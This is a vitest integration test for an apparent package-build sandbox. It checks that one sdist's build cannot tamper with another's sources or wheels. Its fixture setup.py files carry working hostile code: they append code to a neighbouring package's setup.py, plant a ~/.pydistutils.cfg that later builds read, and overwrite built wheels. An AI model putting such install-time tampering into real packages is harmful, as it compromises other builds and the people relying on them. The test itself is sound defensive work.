/**
 * Issue 20, part 3, on the real engine with real pip: one locked sdist's build cannot edit
 * another's. Each is built by a pip of its own, in a phase of its own, after the one before has
 * ended and its processes were killed; its wheels are then kept where the sandbox user cannot
 * change them and what it left in pip's temp dirs is removed. So a build finds no other sdist
 * unpacked to rewrite and no built wheel it can change; what it tries is fs.build-meddling, charged
 * to it, and a file it plants for a later build is charged to it when that build reads it. Never
 * to the victim.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { buildFixtureIndex, type FixturePackage } from '../fixtures/index.js';
import { engineAvailable, expectNoContainersLeft, runCli } from './helpers.js';

const victim: FixturePackage = {
  name: 'zz-victim',
  version: '1.0',
  kind: 'sdist',
  files: {
    'setup.py': 'from setuptools import setup\nsetup(name="zz-victim", version="1.0", py_modules=["zz_victim"])\n',
    'zz_victim.py': 'VALUE = 1\n',
  },
};

/**
 * Built first. At every setup.py run: look through /tmp for another sdist unpacked there and append
 * a DNS lookup to its setup.py (run, and blamed, as that package's build); drop a file among the
 * built wheels; and plant a ~/.pydistutils.cfg, which setuptools reads in every later build.
 */
const meddler: FixturePackage = {
  name: 'aa-meddler',
  version: '1.0',
  kind: 'sdist',
  files: {
    'setup.py': `
import os
for root, dirs, files in os.walk("/tmp"):
    if "setup.py" in files and "zz_victim.py" in files:
        try:
            with open(os.path.join(root, "setup.py"), "a") as f:
                f.write('\\nimport socket\\ntry:\\n    socket.gethostbyname("meddled.invalid")\\nexcept Exception:\\n    pass\\n')
        except OSError:
            pass
try:
    with open("/tmp/pip-wheelhouse/planted.txt", "w") as f:
        f.write("x")
except OSError:
    pass
with open(os.path.expanduser("~/.pydistutils.cfg"), "w") as f:
    f.write("[global]\\nverbose = 0\\n")
from setuptools import setup
setup(name="aa-meddler", version="1.0", py_modules=[])
`,
  },
};

/** Built last: rewrites the wheels the builds before it made, wherever it can find them. */
const lateMeddler: FixturePackage = {
  name: 'zzz-late-meddler',
  version: '1.0',
  kind: 'sdist',
  files: {
    'setup.py': `
import os
for d in ("/tmp/pip-wheelhouse", "/var/lib/sandbox-built"):
    try:
        names = os.listdir(d)
    except OSError:
        continue
    for name in names:
        if name.startswith("zz_victim"):
            try:
                with open(os.path.join(d, name), "r+b") as f:
                    f.write(b"PK-meddled")
            except OSError:
                pass
from setuptools import setup
setup(name="zzz-late-meddler", version="1.0", py_modules=[])
`,
  },
};

describe.runIf(engineAvailable())('builds on the real engine', () => {
  afterEach(async () => {
    await expectNoContainersLeft();
  });

  it("one sdist's build cannot reach another's sources or wheels: each attempt and each plant is fs.build-meddling charged to the meddler, nothing to the victim", async () => {
    const index = await buildFixtureIndex([meddler, victim, lateMeddler]);
    const run = await runCli(index.lockFile, index.indexUrl);
    const findings = run.report.findings;
    expect(run.exitCode, JSON.stringify(findings)).toBe(1);
    // Each sdist was built by a phase of its own, in the lock's order; the run went on to the end.
    expect(run.report.phases?.map((p) => [p.name, p.exitCode])).toEqual([
      ['build', 0],
      ['build', 0],
      ['build', 0],
      ['install', 0],
      ['startup', 0],
    ]);
    // The victim's build never ran the meddler's code: no lookup, nothing charged to it.
    expect(findings.filter((f) => f.package === 'zz-victim')).toEqual([]);
    expect(findings.filter((f) => f.rule.startsWith('network.'))).toEqual([]);
    const failing = findings.filter((f) => f.failing);
    expect(failing.map((f) => [f.rule, f.package, f.phase, f.evidence.path ?? f.evidence.filename])).toEqual(
      expect.arrayContaining([
        ['fs.target-tamper', 'aa-meddler', 'build', '/tmp/pip-wheelhouse/planted.txt'],
        ['fs.write-outside-target', 'aa-meddler', 'build', '/home/user/.pydistutils.cfg'],
        // The host, reading the built wheels back, finds the planted file among them too.
        ['export.unexpected-file', null, 'build', 'planted.txt'],
        // The victim's setuptools read the planted config: charged to the planter.
        ['fs.build-meddling', 'aa-meddler', 'build', '/home/user/.pydistutils.cfg'],
        // The late build found the victim's wheel only where it is kept, and was refused.
        ['fs.build-meddling', 'zzz-late-meddler', 'build', '/var/lib/sandbox-built/zz_victim-1.0-py3-none-any.whl'],
      ]),
    );
    const planted = failing.find((f) => f.rule === 'fs.build-meddling' && f.package === 'aa-meddler')!;
    expect(planted.evidence).toMatchObject({ plantedIn: 'build', ok: true, syscall: 'openat' });
    // Listing the kept wheels is a reach too; opening the victim's wheel to rewrite it was refused.
    const reach = failing.find((f) => f.rule === 'fs.build-meddling' && f.evidence.path === '/var/lib/sandbox-built/zz_victim-1.0-py3-none-any.whl')!;
    expect(reach.evidence).toMatchObject({ ownerPhase: 'built wheels', ok: false, errno: 'EACCES', syscall: 'openat' });
    expect(
      failing.filter((f) => f.rule === 'fs.build-meddling' && f.evidence.path === '/var/lib/sandbox-built').map((f) => [f.package, f.evidence.ok]),
    ).toEqual([['zzz-late-meddler', true]]);
    // Nothing but the above: the meddling is the run's whole story.
    expect(new Set(failing.map((f) => f.package))).toEqual(new Set(['aa-meddler', 'zzz-late-meddler', null]));
    expect(run.report.exported).toBeNull();
  });
});
